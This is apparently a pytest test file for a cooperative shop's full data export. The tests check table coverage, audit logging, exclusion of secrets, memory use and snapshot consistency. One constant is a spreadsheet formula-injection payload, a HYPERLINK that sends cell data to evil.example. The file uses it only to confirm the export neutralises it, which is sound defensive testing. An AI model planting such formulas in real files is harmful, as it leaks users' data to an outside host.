"""The full export: every row of every table with its columns, formula-safe, streamed in bounded memory,
and each download written in the audit log."""
from __future__ import annotations

import csv
import io
import tempfile
import tracemalloc
import zipfile

from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, insert, select

from consignment import services as gerai
from consignment.models import SaleLine
from dataexport import export
from marketplace.extensions import db
from marketplace.models import AuditEvent
from marketplace.timeutil import utcnow

EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"Klik")'


@pytest.fixture
def shop(make_user, make_product, make_lot):
    """A sale, so every table of the gerai has rows; a product whose name starts a formula."""
    kasir = make_user("kasir")
    lot = make_lot(make_product(name=EVIL), quantity=50, kasir=kasir)
    gerai.record_counter_sale(kasir, [gerai.LineRequest(lot.id, 2)], "cash")
    return kasir


def add_sale_lines(n: int) -> None:
    """n more sale lines like the first one (bulk, as bench/generate.py does)."""
    line = db.session.scalar(select(SaleLine).limit(1))
    values = {c: getattr(line, c) for c in ("sale_id", "lot_id", "product_id", "member_id", "quantity", "unit_price",
                                           "line_total", "commission_bp", "commission")}
    for start in range(0, n, 5000):
        db.session.execute(insert(SaleLine), [values] * min(5000, n - start))
    db.session.commit()


def table_count(part) -> int:
    return db.session.scalar(select(func.count()).select_from(db.metadata.tables[part.table]))


# Tables left out of the export on purpose, each with the reason: everything else must be exported.
NOT_EXPORTED = {
    "alembic_version": "the schema's version, not the cooperative's data",
    "once_keys": "one-time form keys (technical; they only stop a form acting twice)",
    "pos_cart_lines": "what a kasir has in the cart right now (nothing sold yet)",
    "sales_daily": "daily figures derived from the sale lines (rebuilt by check-ledger --repair)",
    "notifications": "messages to members; they hold password links",
    "notification_preferences": "each member's choice of WhatsApp messages",
    "login_attempts": "failed sign-ins kept for the rate limit (security, not the cooperative's work)",
    "search_outbox": "products waiting to be (re)indexed for search (technical)",
    "join_photo_keeps": "when a visitor's photo was kept after a failed join form (a rate limit)",
    "cache_generations": "a token telling workers when to read the shop's shared values again (technical)",
}


def test_every_table_is_exported_or_left_out_for_a_stated_reason(app):
    exported = {part.table for part in export.PARTS}
    every = set(db.metadata.tables) | {"alembic_version"}
    assert every - exported - set(NOT_EXPORTED) == set()


def test_the_readme_names_every_exported_file_and_what_is_left_out_and_why():
    from pathlib import Path

    readme = (Path(__file__).parents[2] / "README.md").read_text(encoding="utf-8")
    section = readme.split("### Downloading all the data", 1)[1].split("\n### ", 1)[0]
    assert [part.name for part in export.PARTS if f"`{part.name}`" not in section] == []
    assert f"{len(export.PARTS)} files" in section
    for table in ("notifications", "notification_preferences"):
        assert f"`{table}` —" in section  # named, with the reason


def download(client, fmt: str) -> bytes:
    response = client.post("/admin/ekspor", data={"format": fmt})
    assert response.status_code == 200, response.status_code
    assert response.headers["Content-Disposition"].endswith(f'.{fmt}"')
    return response.get_data()


def test_the_zip_holds_every_row_of_every_table_with_its_columns_and_a_readme(client, login_as, shop):
    add_sale_lines(30)
    login_as("pengawas")
    archive = zipfile.ZipFile(io.BytesIO(download(client, "zip")))
    readme = archive.read("README.txt").decode()
    assert "sale_lines.csv" in readme and "line_total: Rupiah" in readme
    assert "password_hash" not in readme
    for part in export.PARTS:
        with archive.open(f"{part.name}.csv") as raw:
            rows = list(csv.reader(io.TextIOWrapper(raw, encoding="utf-8-sig", newline="")))
        assert rows[0] == export.header(part), part.name
        assert len(rows) - 1 == table_count(part), part.name
    assert table_count(next(p for p in export.PARTS if p.name == "sale_lines")) == 31


def test_the_workbook_holds_every_row_of_every_table_with_its_columns(client, login_as, shop):
    add_sale_lines(30)
    login_as("pengurus")
    left_before = set(Path(tempfile.gettempdir()).glob("pasar-export-*"))
    workbook = load_workbook(io.BytesIO(download(client, "xlsx")), read_only=True)
    assert set(Path(tempfile.gettempdir()).glob("pasar-export-*")) == left_before  # the temporary file is gone
    assert workbook.sheetnames == ["README"] + [part.name for part in export.PARTS]
    for part in export.PARTS:
        rows = list(workbook[part.name].iter_rows(values_only=True))
        assert list(rows[0]) == export.header(part), part.name
        assert len(rows) - 1 == table_count(part), part.name


def test_a_cell_starting_a_formula_arrives_as_text(client, login_as, shop):
    login_as("pengurus")
    archive = zipfile.ZipFile(io.BytesIO(download(client, "zip")))
    products = list(csv.DictReader(io.TextIOWrapper(archive.open("products.csv"), encoding="utf-8-sig")))
    assert products[0]["name"] == "'" + EVIL
    sheet = load_workbook(io.BytesIO(download(client, "xlsx")))["products"]
    name = sheet.cell(row=2, column=export.header(export.PARTS[5]).index("name") + 1)
    assert (name.value, name.data_type) == ("'" + EVIL, "s")


def test_each_download_is_audited_and_the_page_changes_nothing(client, login_as, shop):
    pengawas = login_as("pengawas")
    before = db.session.scalar(select(func.count(AuditEvent.id)))
    assert client.get("/admin/ekspor").status_code == 200
    assert db.session.scalar(select(func.count(AuditEvent.id))) == before
    download(client, "zip")
    event = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "data.export"))
    assert (event.actor_id, event.summary) == (pengawas.id, "zip")


def test_passwords_and_session_keys_are_never_exported(client, login_as, shop):
    login_as("pengurus")
    archive = zipfile.ZipFile(io.BytesIO(download(client, "zip")))
    accounts = archive.read("accounts.csv").decode("utf-8-sig")
    assert "password_hash" not in accounts and "pbkdf2" not in accounts and "session_token" not in accounts


def _peak(fmt: str, tmp_path) -> int:
    """The export's peak of Python memory (tracemalloc), written to a file as a client would receive it."""
    tracemalloc.start()
    try:
        if fmt == "zip":
            with open(tmp_path / "out.zip", "wb") as out:
                for chunk in export.csv_zip_chunks("Koperasi", utcnow()):
                    out.write(chunk)
        else:
            export.write_workbook(str(tmp_path / "out.xlsx"), "Koperasi", utcnow())
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("fmt", ["zip", "xlsx"])
def test_memory_stays_flat_from_n_to_ten_times_n_sale_lines(app, shop, tmp_path, fmt):
    n = 1_000
    add_sale_lines(n)
    small = _peak(fmt, tmp_path)
    add_sale_lines(9 * n)
    large = _peak(fmt, tmp_path)
    # All rows in memory would grow the peak by several MB (9,000 rows × ~10 values); streamed it stays
    # within the chunk buffers.
    assert large < small * 1.5 + 256 * 1024, (small, large)


def test_the_command_line_writes_the_same_export_and_audits_it(app, runner, shop, tmp_path):
    result = runner.invoke(args=["export-data", str(tmp_path / "data.zip")])
    assert result.exit_code == 0, result.output
    archive = zipfile.ZipFile(tmp_path / "data.zip")
    assert len(archive.read("sale_lines.csv").decode("utf-8-sig").splitlines()) == 1 + 1
    assert db.session.scalar(select(AuditEvent.summary).where(AuditEvent.action == "data.export")) == "zip (command line)"
    assert runner.invoke(args=["export-data", str(tmp_path / "data.txt")]).exit_code != 0


def test_a_sale_recorded_while_the_export_runs_is_not_half_in_it(app, shop, make_lot, at_once):
    """The export reads one snapshot: a sale committed after it started is in neither its sales nor its
    sale lines nor its stock ledger (the files agree with each other)."""
    kasir_id, lot_id = shop.id, make_lot(quantity=5).id
    counts = {part.name: table_count(part) for part in export.PARTS}
    chunks = export.csv_zip_chunks("Koperasi", utcnow())
    started = [next(chunks)]  # the README: the snapshot is taken

    def sell():
        from marketplace.models import User

        gerai.record_counter_sale(db.session.get(User, kasir_id), [gerai.LineRequest(lot_id, 1)], "cash")

    assert at_once(sell) == [None]
    archive = zipfile.ZipFile(io.BytesIO(b"".join(started + list(chunks))))
    for name in ("sales", "sale_lines", "stock_ledger", "audit_log"):
        rows = archive.read(f"{name}.csv").decode("utf-8-sig").splitlines()
        assert len(rows) - 1 == counts[name], name
    assert table_count(next(p for p in export.PARTS if p.name == "sales")) == counts["sales"] + 1
